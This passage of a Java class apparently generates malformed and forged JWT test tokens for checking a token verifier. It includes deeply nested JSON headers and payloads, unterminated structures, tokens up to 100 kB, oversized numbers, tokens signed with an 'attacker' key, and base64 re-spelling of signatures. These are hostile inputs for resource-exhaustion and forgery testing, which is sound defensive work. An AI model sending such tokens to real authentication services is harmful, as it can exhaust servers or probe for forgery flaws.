        tokens.put(
            "signed payload with surplus bits, " + payload.length(),
            signedRaw(realm.rsa(), header("rsa"), other));
      }
    }
    return tokens;
  }

  Map<String, String> ofDeepJson() {
    Map<String, String> tokens = new LinkedHashMap<>();
    String input = payload();
    String open = input.substring(0, input.length() - 1);
    int depth = 1500;
    String arrays = "[".repeat(depth) + "]".repeat(depth);
    String objects = "{\"a\":".repeat(600) + "1" + "}".repeat(600);
    for (String deep : List.of(arrays, objects)) {
      String kind = deep.substring(0, 1);
      String header = "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"x\":" + deep + "}";
      tokens.put("header " + kind + " deep", signed(attacker, header, input));
      tokens.put(
          "payload " + kind + " deep",
          signed(attacker, header("rsa"), open + ",\"x\":" + deep + "}"));
      tokens.put("audience " + kind + " deep", signed(header("rsa"), payload("aud", deep)));
      tokens.put(
          "key " + kind + " deep",
          signed("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"jwk\":" + deep + "}", input));
    }
    tokens.put("header without end", encode("[".repeat(5500)) + "." + encode(input) + ".AA");
    tokens.put("object without end", encode("{\"a\":".repeat(1100)) + "." + encode(input) + ".AA");
    tokens.put("payload without end", signed(header("rsa"), "[".repeat(5000)));
    tokens.put("long number", signed(header("rsa"), payload("exp", "9".repeat(5000))));
    tokens.put("long fraction", signed(header("rsa"), payload("exp", "0." + "9".repeat(5000))));
    return tokens;
  }

  Map<String, String> ofUnusualLength() {
    Map<String, String> tokens = new LinkedHashMap<>();
    String padding = "";
    while (signed(header("rsa"), payload("x", quoted(padding))).length() <= 8192) {
      padding +=
          "x"
              .repeat(
                  Math.max(
                      1,
                      (8192 - signed(header("rsa"), payload("x", quoted(padding))).length()) / 2));
    }
    tokens.put("8 KiB and a little, signed", signed(header("rsa"), payload("x", quoted(padding))));
    tokens.put("8 KiB and a byte", "a.b." + "c".repeat(8189));
    tokens.put(
        "12,000 characters, signed", signed(header("rsa"), payload("x", quoted("x".repeat(8400)))));
    return tokens;
  }

  Map<String, String> ofHugeLength() {
    Map<String, String> tokens = new LinkedHashMap<>();
    tokens.put("20 kB, signed", signed(header("rsa"), payload("x", quoted("x".repeat(14_500)))));
    tokens.put("100 kB, signed", signed(header("rsa"), payload("x", quoted("x".repeat(74_500)))));
    tokens.put("20 kB header", encode("{\"alg\":\"" + "x".repeat(14_900)) + ".AA.AA");
    tokens.put("100 kB signature", "e30.e30." + "A".repeat(100_000));
    return tokens;
  }

  private void claims(Map<String, String> tokens, String name, String... values) {
    for (String value : values) {
      String shown = value == null ? "missing" : value.length() > 70 ? "long" : value;
      tokens.put(name + " " + shown, signed(header("rsa"), payload(name, value)));
    }
  }

  private String payload() {
    return payload("jti", quoted("forged"));
  }

  /** The payload of a valid token with a claim of this JSON value, or without it. */
  private String payload(String name, String value) {
    long now = Instant.now().getEpochSecond();
    Map<String, String> claims = new LinkedHashMap<>();
    claims.put("iss", quoted(realm.issuer()));
    claims.put("aud", "[\"billing-portal\",\"account\"]");
    claims.put("sub", "\"user-1\"");
    claims.put("typ", "\"Bearer\"");
    claims.put("azp", "\"settings-page\"");
    claims.put("iat", String.valueOf(now));
    claims.put("exp", String.valueOf(now + 300));
    claims.put(name, value);
    StringJoiner json = new StringJoiner(",", "{", "}");
    claims.forEach(
        (claim, text) -> {
          if (text != null) {
            json.add(quoted(claim) + ":" + text);
          }
        });
    return json.toString();
  }

  private static String header(String kid) {
    return header(ALGORITHM, kid);
  }

  private static String header(String algorithm, String kid) {
    return "{\"alg\":\"%s\",\"typ\":\"JWT\",\"kid\":\"%s\"}".formatted(algorithm, kid);
  }

  private String signed(String header, String payload) {
    return signed(realm.rsa(), header, payload);
  }

  private static String signed(RSAKey key, String header, String payload) {
    return signedRaw(key, header, encode(payload));
  }

  private static String signedRaw(RSAKey key, String header, String encodedPayload) {
    try {
      String input = encode(header) + "." + encodedPayload;
      return input
          + "."
          + encode(sign("SHA256withRSA", key.toPrivateKey(), input.getBytes(US_ASCII)));
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private String hmac(String algorithm, String kid, String function, byte[] key) {
    try {
      String input = encode(header(algorithm, kid)) + "." + encode(payload());
      Mac mac = Mac.getInstance(function);
      mac.init(new SecretKeySpec(key, function));
      return input + "." + encode(mac.doFinal(input.getBytes(US_ASCII)));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String encrypted(RSAKey key, String token) throws JOSEException {
    JWEObject encrypted =
        new JWEObject(
            new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM)
                .contentType("JWT")
                .keyID(key.getKeyID())
                .build(),
            new Payload(token));
    encrypted.encrypt(new RSAEncrypter(key));
    return encrypted.serialize();
  }

  private static byte[] sign(String algorithm, PrivateKey key, byte[] input) {
    try {
      Signature signature = Signature.getInstance(algorithm);
      signature.initSign(key);
      signature.update(input);
      return signature.sign();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  /** The same bytes in another spelling, if there is one: base64 decoders drop surplus bits. */
  private static String respelled(String base64) {
    return base64.length() % 4 == 0
        ? base64
        : base64.substring(0, base64.length() - 1)
            + ALPHABET.charAt(ALPHABET.indexOf(base64.charAt(base64.length() - 1)) + 1);
  }

  private static String encode(String text) {
    return Base64URL.encode(text).toString();
  }

  private static String encode(byte[] bytes) {
    return Base64URL.encode(bytes).toString();
  }

  private static String quoted(String text) {
    return "\"" + text + "\"";
  }

  private static byte[] join(byte[] first, byte[] second) {
    byte[] joined = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, joined, first.length, second.length);
    return joined;
  }

  /** With zeros before it. */
  private static byte[] padded(byte[] bytes, int length) {
    return join(new byte[length - bytes.length], bytes);
  }

  private static byte[] unsigned(BigInteger number) {
    byte[] bytes = number.toByteArray();
    return bytes[0] == 0 ? Arrays.copyOfRange(bytes, 1, bytes.length) : bytes;
  }
}
